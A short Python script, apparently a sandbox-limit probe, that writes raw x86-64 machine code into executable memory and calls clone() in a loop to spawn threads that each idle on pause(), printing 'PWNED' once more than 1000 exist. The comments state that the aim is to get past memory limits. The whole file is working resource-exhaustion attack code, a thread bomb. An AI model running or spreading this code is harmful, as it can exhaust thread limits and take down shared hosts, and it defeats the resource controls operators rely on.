# threads by the system call alone need no memory of their own, so no limit on memory bounds them
import ctypes, mmap, os, time
if os.uname().machine != "x86_64": raise SystemExit
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# mov eax, clone; mov edi, VM|FS|FILES|SIGHAND|THREAD; rsi is the stack; syscall; test eax, eax; jnz out; again: mov eax, 34 (pause); syscall; jmp again
code.write(bytes.fromhex("b838000000" "bf000f0100" "31d2" "4d31d2" "4d31c0" "0f05" "85c0" "7509" "b822000000" "0f05" "ebf7" "c3"))
start = ctypes.addressof(ctypes.c_char.from_buffer(code))
stack = ctypes.create_string_buffer(1 << 16)
make = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long, ctypes.c_void_p)(start)
top = (ctypes.addressof(stack) + (1 << 16) - 64) & ~15
n, end = 0, time.monotonic() + 0.5
while time.monotonic() < end and make(0, top) > 0: n += 1
print("PWNED" if n > 1000 else "stopped", n, flush=True)
os._exit(0)
